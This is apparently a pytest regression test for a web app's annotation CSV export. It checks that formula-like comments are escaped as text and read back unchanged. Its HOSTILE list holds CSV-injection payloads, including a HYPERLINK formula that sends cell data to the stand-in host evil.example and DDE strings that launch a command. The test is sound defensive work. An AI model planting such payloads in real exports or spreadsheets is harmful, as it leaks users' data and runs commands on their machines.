"""Issue 37, item 6: annotation CSV exports passed ``=HYPERLINK(...)``, ``@SUM(...)`` and
``+cmd|...`` through unchanged, so a spreadsheet opening the export ran an annotator's comment as
a formula. Such cells are now written as text (a leading apostrophe) and read back as written."""
from __future__ import annotations

import csv
import io

import pytest

from webapp.annotations.annotating import COLUMNS, read_rows, to_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+9)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\uff1d1+1"]


@pytest.mark.parametrize("comment", HOSTILE)
def test_a_formula_in_a_comment_is_text_in_the_export_and_itself_on_import(comment):
    row = {c: "" for c in COLUMNS}
    row.update(run=1, target_kind="event", target_ref="2", labels=["=evil()"], comment=comment, score=-0.5,
               passed=None, position=None, reply_to=None, iteration=None, author="@mallory")
    exported = to_csv([row])
    cells = list(csv.DictReader(io.StringIO(exported)))[0]
    for column in ("comment", "labels", "author"):
        assert cells[column].startswith("'"), (column, cells[column])
    assert cells["score"] == "-0.5"  # a number stays a number
    (_, back), = list(read_rows("labels.csv", exported))
    assert back["comment"] == comment and back["labels"] == ["=evil()"] and back["author"] == "@mallory"
